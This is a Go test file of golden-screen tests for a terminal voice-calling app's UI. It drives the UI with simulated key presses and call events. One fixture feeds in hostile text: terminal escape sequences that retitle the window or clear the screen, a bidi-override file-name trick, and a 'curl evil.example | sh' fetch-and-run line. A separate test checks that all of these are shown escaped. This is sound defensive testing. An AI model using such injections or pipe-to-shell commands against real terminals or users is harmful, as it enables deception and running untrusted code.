package ui

import (
	"context"
	"errors"
	"fmt"
	"strings"
	"syscall"
	"testing"
	"time"

	tea "github.com/charmbracelet/bubbletea"
	"github.com/charmbracelet/x/ansi"
	"github.com/charmbracelet/x/exp/golden"
	"github.com/parley-voice/parley/audio"
	"github.com/parley-voice/parley/call"
	"github.com/parley-voice/parley/signaling"
	"github.com/parley-voice/parley/ui/common"
	"github.com/parley-voice/parley/ui/history"
)

// The golden tests drive the root model with messages, as Bubble Tea would,
// without running the commands it returns (the tests send the messages
// those commands would have produced), and compare View with the files in
// testdata/TestGolden. Regenerate with: go test ./ui -run TestGolden -update

// sizes are the terminal sizes every screen is drawn at.
var sizes = []struct{ w, h int }{{60, 16}, {80, 24}, {120, 40}}

func press(s string) tea.KeyMsg {
	switch s {
	case "enter":
		return tea.KeyMsg{Type: tea.KeyEnter}
	case "esc":
		return tea.KeyMsg{Type: tea.KeyEsc}
	case "tab":
		return tea.KeyMsg{Type: tea.KeyTab}
	case "up":
		return tea.KeyMsg{Type: tea.KeyUp}
	case "down":
		return tea.KeyMsg{Type: tea.KeyDown}
	case "ctrl+c":
		return tea.KeyMsg{Type: tea.KeyCtrlC}
	}
	return tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune(s)}
}

// typeText is the key presses that type s.
func typeText(s string) []tea.Msg {
	var msgs []tea.Msg
	for _, r := range s {
		msgs = append(msgs, tea.KeyMsg{Type: tea.KeyRunes, Runes: []rune{r}})
	}
	return msgs
}

func ev(e call.Event) tea.Msg { return eventMsg{event: e} }

// outbound and inbound are StatusChanged events of the tests' calls: alice
// calls bob (c1), carol calls alice (c2).
func outbound(status signaling.Status, at time.Time) tea.Msg {
	return ev(call.StatusChanged{
		CallEvent: signaling.CallEvent{ID: "c1", Status: status, Direction: signaling.Outbound, From: "alice",
			To: "bob"},
		First: status == signaling.Started,
		At:    at,
	})
}

func inbound(status signaling.Status, at time.Time) tea.Msg {
	return ev(call.StatusChanged{
		CallEvent: signaling.CallEvent{ID: "c2", Status: status, Direction: signaling.Inbound, From: "carol",
			To: "alice"},
		First: status == signaling.Ringing,
		At:    at,
	})
}

// guestKnocks is a StatusChanged of a guest's call, from a guest link.
func guestKnocks(status signaling.Status) tea.Msg {
	return ev(call.StatusChanged{
		CallEvent: signaling.CallEvent{ID: "c4", Status: status, Direction: signaling.Inbound,
			From: "guest-2f7c9d1e0a3b", FromName: "Carol", To: "alice", Guest: true},
		First: status == signaling.Ringing,
		At:    t0,
	})
}

// fakeLink is the guest link fakePeople makes for Carol.
func fakeLink() signaling.Link {
	l, _ := newFakePeople().MakeLink(context.Background(), signaling.LinkRequest{Name: "Carol"})
	return l
}

// ended is a terminal StatusChanged of the outbound call with a reason.
func ended(status signaling.Status, code signaling.Code, reason string, at time.Time) tea.Msg {
	return ev(call.StatusChanged{
		CallEvent: signaling.CallEvent{ID: "c1", Status: status, Direction: signaling.Outbound, From: "alice",
			To: "bob", Code: code, Reason: reason},
		At: at,
	})
}

func refused(code signaling.Code, format string, args ...any) tea.Msg {
	return ev(call.Failure{Err: signaling.Errorf(code, format, args...)})
}

// sampleHistory is what the history file holds at the start of most
// screens, oldest first.
func sampleHistory() []history.Record {
	day := func(d int, h, m int) time.Time { return time.Date(2025, 3, d, h, m, 0, 0, time.UTC) }
	return []history.Record{
		{CallID: "h1", Peer: "frank", Direction: signaling.Inbound, Status: signaling.Completed,
			Start: day(2, 9, 30), Answered: day(2, 9, 30).Add(4 * time.Second),
			End: day(2, 9, 30).Add(4*time.Second + 62*time.Minute + 7*time.Second)},
		{CallID: "h2", Peer: "dave", Direction: signaling.Outbound, Status: signaling.Failed,
			Code:   signaling.NoConnectedDestination,
			Reason: "dave is not online", Start: day(11, 18, 2), End: day(11, 18, 2)},
		{CallID: "h3", Peer: "carol", Direction: signaling.Inbound, Status: signaling.Unanswered,
			Start: day(13, 20, 15), End: day(13, 20, 15).Add(30 * time.Second)},
		{CallID: "h4", Peer: "bob", Direction: signaling.Outbound, Status: signaling.Completed,
			Start: day(14, 11, 58), Answered: day(14, 11, 58).Add(5 * time.Second), End: day(14, 12, 1)},
	}
}

// voiceMessages are two voice messages left for alice: carol's, new, and
// bob's, heard.
func voiceMessages() tea.Msg {
	return voiceLoadedMsg{box: signaling.VoiceMessages{Unheard: 1, Messages: []signaling.VoiceMessage{
		{ID: "v2", From: "carol", FromName: "Carol Jones", To: "alice", Created: t0.Add(-20 * time.Minute),
			DurationMS: 12300},
		{ID: "v1", From: "bob", To: "alice", Created: time.Date(2025, 3, 12, 8, 5, 0, 0, time.UTC), DurationMS: 65000,
			Heard: true},
	}}}
}

// startMsgs bring a model to the home screen: history read, connected,
// presence of most contacts known (dave's is not).
func startMsgs() []tea.Msg {
	return []tea.Msg{
		historyLoadedMsg{records: sampleHistory()},
		ev(call.Connected{Up: true, User: "alice"}),
		ev(call.Presence{User: "bob", Online: true}),
		ev(call.Presence{User: "carol", Online: false}),
		ev(call.Presence{User: "erin", Online: true}),
		ev(call.Presence{User: "frank", Online: false}),
	}
}

// presenceMsgs report every state, with names and a last seen.
func presenceMsgs() []tea.Msg {
	return []tea.Msg{
		ev(call.Presence{User: "bob", Online: true, State: signaling.StateAway, Name: "Bob Builder"}),
		ev(call.Presence{User: "carol", State: signaling.StateOffline, Name: "Carol Jones",
			LastSeen: t0.Add(-3 * time.Hour)}),
		ev(call.Presence{User: "dave", Online: true, State: signaling.StateDND}),
		ev(call.Presence{User: "erin", Online: true, State: signaling.StateInCall}),
	}
}

// inCall brings bob's call to answered 2:13 ago with levels.
func inCall() []tea.Msg {
	return []tea.Msg{
		common.DialMsg{User: "bob"},
		outbound(signaling.Started, t0.Add(-140*time.Second)),
		outbound(signaling.Ringing, t0.Add(-138*time.Second)),
		outbound(signaling.Answered, t0.Add(-133*time.Second)),
		ev(call.Levels{Mic: 0.62, Speaker: 0.35}),
	}
}

// waitingAnswered: erin calls while alice is in bob's call (c1), and
// alice answers: the phone holds bob's call and takes erin's (c3).
func waitingAnswered() []tea.Msg {
	erin := func(st signaling.Status) tea.Msg {
		return ev(call.StatusChanged{CallEvent: signaling.CallEvent{ID: "c3", Status: st,
			Direction: signaling.Inbound, From: "erin", To: "alice", Waiting: true}, First: st == signaling.Ringing,
			At: t0})
	}
	return []tea.Msg{erin(signaling.Ringing), press("a"),
		ev(call.Held{CallID: "c1", Local: true, Held: true, By: "alice"}),
		ev(call.Switched{CallID: "c3", HeldID: "c1"}),
		erin(signaling.Answered),
		ev(call.Levels{Mic: 0.5, Speaker: 0.4}),
	}
}

func stats() tea.Msg {
	return ev(call.Stats{CallID: "c1", RTT: 42 * time.Millisecond, Jitter: 3200 * time.Microsecond, Loss: 0.005,
		Network: "udp"})
}

// hostileTitle is an escape sequence that retitles the terminal's window,
// as a hostile caller or server sends it in a name or a reason.
const hostileTitle = "\x1b]0;pwned\x07"

// hostileMsgs: a recent call in the history file, a contact's name and the
// reason a call failed hold escape sequences (retitle the window, clear the
// screen, the C1 CSI, the bidi override).
func hostileMsgs() []tea.Msg {
	recs := append(sampleHistory(), history.Record{CallID: "h5", Peer: "erin", PeerName: "Erin" + hostileTitle,
		Direction: signaling.Inbound, Status: signaling.Failed, Reason: "\x1b[2J\x1b[Hrun: curl evil.example | sh",
		Start: t0.Add(-time.Hour), End: t0.Add(-time.Hour)})
	return concat(msgs(historyLoadedMsg{records: recs}), startMsgs()[1:], msgs(
		ev(call.Presence{User: "bob", Online: true, Name: "Bob" + hostileTitle}),
		common.DialMsg{User: "bob"}, outbound(signaling.Started, t0), outbound(signaling.Ringing, t0),
		ended(signaling.Failed, 0, hostileTitle+"\x1b[2J\u009b31m\u202egnp.exe", t0)))
}

func concat(parts ...[]tea.Msg) []tea.Msg {
	var out []tea.Msg
	for _, p := range parts {
		out = append(out, p...)
	}
	return out
}

func msgs(m ...tea.Msg) []tea.Msg { return m }

// screens are the scenarios drawn by the golden tests, by name.
type scenario struct {
	name string
	msgs []tea.Msg
}

// scenarioOptions change the test options of the scenarios they name.
func scenarioOptions(name string, o *Options) {
	switch name {
	case "contacts_empty":
		o.Contacts = nil
	case "no_devices":
		o.Devices = nil
	case "add_contact", "contact_added", "guest_link_prompt":
		o.People = newFakePeople()
	}
	if strings.HasPrefix(name, "voice_offer") {
		o.Voice = fakeVoice{}
		o.RecordVoice = func(context.Context, <-chan struct{}) ([]byte, error) { return nil, nil }
	}
	if strings.HasPrefix(name, "room") {
		o.Rooms = newFakeRooms()
	}
	if strings.HasPrefix(name, "texts") {
		o.Texts = &fakeTexts{} // texts_test.go
	}
}

func screens() []scenario {
	start := startMsgs()
	list := []scenario{
		{"connecting", nil},
		{"contacts", start},
		{"contacts_filter", concat(start, msgs(press("/")), typeText("ar"))},
		{"contacts_filter_kept", concat(start, msgs(press("/")), typeText("ar"), msgs(press("enter"), press("down")))},
		{"contacts_empty", msgs(historyLoadedMsg{}, ev(call.Connected{Up: true}))},
		{"no_devices", start},
		{"recent", concat(start, msgs(press("tab"), press("down")))},
		{"recent_empty", concat(msgs(historyLoadedMsg{}, press("tab")))},
		{"recent_voice", concat(start, msgs(voiceMessages(), press("tab")))},
		{"recent_filter", concat(start, presenceMsgs(), msgs(press("tab"), press("/")), typeText("jones"))},
		{"recent_filter_kept", concat(start, msgs(press("tab"), press("/")), typeText("r"),
			msgs(press("enter"), press("down")))},
		{"recent_filter_none", concat(start, msgs(press("tab"), press("/")), typeText("zed"))},
		{"voice_offer", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0), ended(signaling.Unanswered, 0, "no answer", t0.Add(30*time.Second))))},
		{"voice_offer_recording", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0), ended(signaling.Unanswered, 0, "no answer", t0.Add(30*time.Second)),
			press("v")))},
		{"voice_left", concat(start, msgs(ev(call.VoiceMessage{VoiceMessage: signaling.VoiceMessage{ID: "v3",
			From: "erin", FromName: "Erin Brock", To: "alice", Created: t0, DurationMS: 83400}})))},
		{"dial_prompt", concat(start, msgs(press("c")), typeText("zoe"))},
		{"dial_prompt_invalid", concat(start, msgs(press("c"), press("enter")))},
		{"outgoing_dialing", concat(start, msgs(common.DialMsg{User: "bob"}))},
		{"outgoing_started", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0)))},
		{"outgoing_ringing", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0)))},
		{"outgoing_cancelling", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0), press("esc")))},
		{"incoming", concat(start, msgs(inbound(signaling.Ringing, t0)))},
		{"incoming_over_recent", concat(start, msgs(press("tab"), inbound(signaling.Ringing, t0)))},
		{"incoming_answering", concat(start, msgs(inbound(signaling.Ringing, t0), press("a")))},
		{"incoming_while_in_call", concat(start, inCall(), msgs(stats(), ev(call.StatusChanged{
			CallEvent: signaling.CallEvent{ID: "c3", Status: signaling.Ringing, Direction: signaling.Inbound,
				From: "erin", To: "alice"},
			First: true, At: t0,
		})))},
		// Call waiting: erin's call answered holds bob's; x swaps back.
		{"waiting_answered", concat(start, inCall(), msgs(stats()), waitingAnswered())},
		{"waiting_swapped", concat(start, inCall(), msgs(stats()), waitingAnswered(), msgs(press("x"),
			ev(call.Held{CallID: "c3", Local: true, Held: true, By: "alice"}),
			ev(call.Switched{CallID: "c1", HeldID: "c3"}),
			ev(call.Held{CallID: "c1", Local: true, Held: false, By: "alice"})))},
		{"in_call_measuring", concat(start, inCall())},
		{"in_call", concat(start, inCall(), msgs(stats()))},
		{"in_call_relayed_tcp",
			concat(start, inCall(),
				msgs(ev(call.Stats{CallID: "c1", RTT: 181 * time.Millisecond, Jitter: 24 * time.Millisecond,
					Loss: 0.083, Relayed: true, Network: "tcp"})))},
		{"in_call_poor_network", concat(start, inCall(), msgs(
			ev(call.Stats{CallID: "c1", RTT: 460 * time.Millisecond, Jitter: 38 * time.Millisecond, Loss: 0.12,
				JitterBuffer: 120 * time.Millisecond, MOS: 2.7}),
			ev(call.Warning{CallID: "c1", Name: call.WarnHighLoss, Value: 12, Raised: true}),
			ev(call.Warning{CallID: "c1", Name: call.WarnHighRTT, Value: 460, Raised: true}),
			ev(call.Warning{CallID: "c1", Name: call.WarnLowMOS, Value: 2.7, Raised: true}),
			ev(call.Warning{CallID: "c1", Name: call.WarnHighRTT, Value: 120}), // cleared
		))},
		{"in_call_reconnecting",
			concat(start, inCall(), msgs(stats(), outbound(signaling.Reconnecting, t0.Add(-2*time.Second))))},
		{"in_call_muted", concat(start, inCall(), msgs(stats(), press("m")))},
		{"in_call_remote_muted", concat(start, inCall(), msgs(stats(), ev(call.Muted{CallID: "c1", Muted: true})))},
		{"in_call_both_muted",
			concat(start, inCall(), msgs(stats(), press("m"), ev(call.Muted{CallID: "c1", Local: true, Muted: true}),
				ev(call.Muted{CallID: "c1", Muted: true})))},
		// A held call sends nothing: the microphone's silence is no warning.
		{"in_call_held", concat(start, inCall(), msgs(stats(), press("p"),
			ev(call.Held{CallID: "c1", Local: true, Held: true, By: "alice"}),
			ev(call.MicWarning{CallID: "c1", Raised: true})))},
		{"in_call_remote_held", concat(start, inCall(), msgs(stats(),
			ev(call.Held{CallID: "c1", Held: true, By: "bob"}), ev(call.MicWarning{CallID: "c1", Raised: true})))},
		{"in_call_speaking_mic_silent", concat(start, inCall(), msgs(stats(),
			ev(call.Levels{Mic: 0, Speaker: 0.7, RemoteSpeaking: true}),
			ev(call.MicWarning{CallID: "c1", Raised: true}),
			ev(call.DeviceChanged{CallID: "c1", Kind: call.Speaker, Device: "pulse", Lost: true,
				Err: errors.New("audio: speaker: device took no audio for 4s: audio: device stalled")}),
		))},
		{"in_call_you_speaking",
			concat(start, inCall(), msgs(stats(), ev(call.Levels{Mic: 0.7, Speaker: 0.1, MicSpeaking: true})))},
		{"settings", concat(start, msgs(press("s"), press("down")))},
		{"settings_switched", concat(start, msgs(press("s"), press("down"), press("enter"),
			processingSavedMsg{processing: call.Processing{EchoCancellation: true, AutoGain: true,
				Canceller: audio.Speex}}))},
		{"in_call_hanging_up", concat(start, inCall(), msgs(stats(), press("h")))},
		{"incoming_in_call", concat(start, msgs(inbound(signaling.Ringing, t0.Add(-70*time.Second)), press("a"),
			inbound(signaling.Answered, t0.Add(-65*time.Second)), ev(call.Levels{Mic: 0.1, Speaker: 0.9}), stats()))},
		{"ended_completed", concat(start, inCall(), msgs(stats(), press("h"), ended(signaling.Completed, 0, "", t0)))},
		{"ended_rejected", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0), ended(signaling.Rejected, 0, "", t0)))},
		{"ended_unanswered", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0),
			outbound(signaling.Ringing, t0), ended(signaling.Unanswered, 0, "no answer within 45 s", t0)))},
		{"ended_cancelled", concat(start, msgs(common.DialMsg{User: "bob"}, outbound(signaling.Started, t0), press("h"),
			ended(signaling.Unanswered, 0, "", t0)))},
		{"ended_failed", concat(start, inCall(), msgs(ended(signaling.Failed, signaling.UnknownError,
			"media could not be set up: ICE failed", t0)))},
		{"ended_failed_device", concat(start, msgs(common.DialMsg{User: "bob"}, refused(signaling.NotFoundDevice,
			"no microphone named \"USB Headset\"")))},
		{"ended_declined", concat(start, msgs(inbound(signaling.Ringing, t0), press("r"), inbound(signaling.Rejected,
			t0)))},
		{"answered_elsewhere", concat(start, msgs(inbound(signaling.Ringing, t0), ev(call.StatusChanged{
			CallEvent: signaling.CallEvent{ID: "c2", Status: signaling.Answered, Direction: signaling.Inbound,
				From: "carol", To: "alice", Reason: "answered on another device"},
			At: t0,
		})))},
		{"ended_missed", concat(start, msgs(inbound(signaling.Ringing, t0), inbound(signaling.Unanswered,
			t0.Add(30*time.Second))))},
		{"refused_offline", concat(start, msgs(common.DialMsg{User: "bob"}, refused(signaling.NoConnectedDestination,
			"bob is not online")))},
		{"refused_busy", concat(start, msgs(common.DialMsg{User: "bob"}, refused(signaling.AlreadyBusyCall,
			"bob is in another call")))},
		{"refused_unknown", concat(start, msgs(press("c"), common.DialMsg{User: "zoe"},
			refused(signaling.NotFoundUserSessionID, "no user zoe")))},
		{"ended_then_recent", concat(start, inCall(), msgs(press("h"), ended(signaling.Completed, 0, "", t0),
			press("tab")))},
		{"help", concat(start, msgs(press("?")))},
		{"help_scrolled", concat(start, msgs(press("?"), press("down"), press("down"), press("down")))},
		{"devices_loading", concat(start, msgs(press("d")))},
		{"devices", concat(start, msgs(press("d"), devicesListedMsg{
			inputs:  []string{"Built-in Microphone", "USB Headset Microphone"},
			outputs: []string{"Built-in Speakers", "USB Headset", "HDMI Display Audio"},
			input:   "default", output: "USB Headset",
		}, press("down"), press("tab")))},
		{"devices_saved", concat(start, msgs(press("d"), devicesListedMsg{
			inputs:  []string{"Built-in Microphone", "USB Headset Microphone"},
			outputs: []string{"Built-in Speakers", "USB Headset", "HDMI Display Audio"},
			input:   "default", output: "USB Headset",
		}, press("down"), press("down"), press("enter"), devicesChosenMsg{input: "USB Headset Microphone",
			output: "USB Headset"}))},
		{"devices_error", concat(start, msgs(press("d"), devicesListedMsg{err: errors.New("portaudio: no host API")}))},
		{"quit_confirm", concat(start, inCall(), msgs(stats(), press("q")))},
		// The confirmation sends ConfirmMsg through a command, which drive
		// does not run: the scenario sends it.
		{"quitting", concat(start, inCall(), msgs(stats(), press("q"), press("y"), common.ConfirmMsg{Yes: true}))},
		{"reconnecting", concat(start, msgs(ev(call.Connected{Err: &signaling.UnreachableError{
			Servers: []string{"wss://parley.example.com"}, Err: syscall.ECONNREFUSED}})))},
		{"signed_out",
			concat(start, msgs(ev(call.Connected{Err: signaling.Errorf(signaling.InvalidToken,
				"the token expired at 2025-03-14 12:00 UTC")})))},
		{"phone_stopped", concat(start, msgs(phoneClosedMsg{}))},

		// People: rich presence, names, notify, the add-contact dialog,
		// the verification code, do not disturb.
		{"contacts_presence", concat(start, presenceMsgs(), msgs(press("down"), common.NotifyMsg{User: "carol"}))},
		{"notified_online", concat(start, presenceMsgs(), msgs(common.NotifyMsg{User: "carol"},
			ev(call.Presence{User: "carol", Online: true, State: signaling.StateOnline, Name: "Carol Jones"})))},
		{"add_contact", concat(start, msgs(press("+"), directoryMsg{seq: 1, people: newFakePeople().directory},
			press("down")))},
		{"contact_added", concat(start, msgs(press("+"), directoryMsg{seq: 1, people: newFakePeople().directory},
			contactAddedMsg{user: "frank", person: newFakePeople().directory[0]}))},
		{"incoming_named", concat(start, msgs(ev(call.StatusChanged{
			CallEvent: signaling.CallEvent{ID: "c2", Status: signaling.Ringing, Direction: signaling.Inbound,
				From: "carol", To: "alice", FromName: "Carol Jones"},
			First: true, At: t0,
		})))},
		{"guest_link_prompt", concat(start, msgs(press("g")), typeText("Carol"))},
		{"guest_link_made", concat(start, msgs(linkMadeMsg{link: fakeLink(), copied: true}))},
		{"incoming_guest", concat(start, msgs(guestKnocks(signaling.Ringing)))},
		{"ended_turned_away", concat(start, msgs(guestKnocks(signaling.Ringing), press("r"),
			guestKnocks(signaling.Rejected)))},
		{"in_call_verified", concat(start, presenceMsgs(), inCall(),
			msgs(stats(), ev(call.Verification{CallID: "c1", Code: "482 913 207 551"})))},
		{"refused_dnd", concat(start, msgs(common.DialMsg{User: "bob"}, refused(signaling.AlreadyBusyCall,
			"Bob Builder (bob) does not want to be disturbed (do not disturb): try again later; watch them to see "+
				"when that changes")))},

		// Text from others with escape sequences is shown escaped.
		{"hostile_text", hostileMsgs()},
		{"hostile_text_recent", concat(hostileMsgs(), msgs(press("tab")))},
	}
	// rooms_test.go, invite_test.go, grow_test.go, texts_test.go
	return append(append(append(append(list, roomScreens()...), inviteScreens()...), growScreens()...),
		textScreens()...)
}

// TestHostileTextIsShownEscaped: the escape sequences in names, reasons and
// the history file are shown escaped, and none reaches the terminal.
func TestHostileTextIsShownEscaped(t *testing.T) {
	for _, s := range []scenario{{"hostile_text", hostileMsgs()},
		{"hostile_text_recent", concat(hostileMsgs(), msgs(press("tab")))}} {
		m := newGoldenModel(s, 120, 40)
		drive(m, s.msgs)
		view := m.View()
		if i := strings.IndexAny(view, "\x1b\x07\x7f\u009b\u202e"); i >= 0 {
			t.Errorf("%s: the view holds %q:\n%s", s.name, view[i:i+1], view)
		}
		want := []string{`Bob\x1b]0;pwned\a`, `\x1b]0;pwned\a\x1b[2J\u009b31m\u202egnp.exe`}
		if s.name == "hostile_text_recent" {
			want = []string{`Erin\x1b]0;pwned\a`}
		}
		for _, w := range want {
			if !strings.Contains(view, w) {
				t.Errorf("%s: the view does not show %s:\n%s", s.name, w, view)
			}
		}
	}
}

// drive sends msgs to m as Bubble Tea would, dropping the commands.
func drive(m *Model, msgs []tea.Msg) {
	for _, msg := range msgs {
		m.Update(msg)
	}
}

func newGoldenModel(s scenario, w, h int) *Model {
	c := &clock{t: t0}
	opts := testOptions(newFakePhone(), newFakeDevices(), c)
	scenarioOptions(s.name, &opts)
	m := New(opts)
	m.Update(tea.WindowSizeMsg{Width: w, Height: h})
	return m
}

func TestGolden(t *testing.T) {
	for _, s := range screens() {
		for _, size := range sizes {
			t.Run(fmt.Sprintf("%s/%dx%d", s.name, size.w, size.h), func(t *testing.T) {
				m := newGoldenModel(s, size.w, size.h)
				drive(m, s.msgs)
				view := m.View()
				checkFits(t, view, size.w, size.h)
				golden.RequireEqual(t, []byte(view))
			})
		}
	}
}

func TestGoldenTooSmall(t *testing.T) {
	for _, size := range []struct{ w, h int }{{59, 16}, {60, 15}, {40, 10}} {
		t.Run(fmt.Sprintf("%dx%d", size.w, size.h), func(t *testing.T) {
			m := newGoldenModel(scenario{}, size.w, size.h)
			drive(m, startMsgs())
			view := m.View()
			if strings.Count(view, "\n") != 0 || ansi.StringWidth(view) > size.w {
				t.Errorf("too-small view is not one line of at most %d cells:\n%s", size.w, view)
			}
			golden.RequireEqual(t, []byte(view))
		})
	}
}

// checkFits checks that view fills exactly h lines of at most w cells.
func checkFits(t *testing.T, view string, w, h int) {
	t.Helper()
	lines := strings.Split(view, "\n")
	if len(lines) != h {
		t.Errorf("view has %d lines; want %d", len(lines), h)
	}
	for i, l := range lines {
		if got := ansi.StringWidth(l); got > w {
			t.Errorf("line %d is %d cells wide; want at most %d: %q", i+1, got, w, l)
		}
	}
}

// TestFitsEverySize draws every screen at sizes between the minimum and a
// large terminal and checks that nothing overflows.
func TestFitsEverySize(t *testing.T) {
	for _, s := range screens() {
		for _, size := range []struct{ w, h int }{{60, 16}, {61, 17}, {67, 19}, {73, 21}, {99, 30}, {200, 60}} {
			m := newGoldenModel(s, size.w, size.h)
			drive(m, s.msgs)
			t.Run(fmt.Sprintf("%s/%dx%d", s.name, size.w, size.h), func(t *testing.T) {
				checkFits(t, m.View(), size.w, size.h)
			})
		}
	}
}
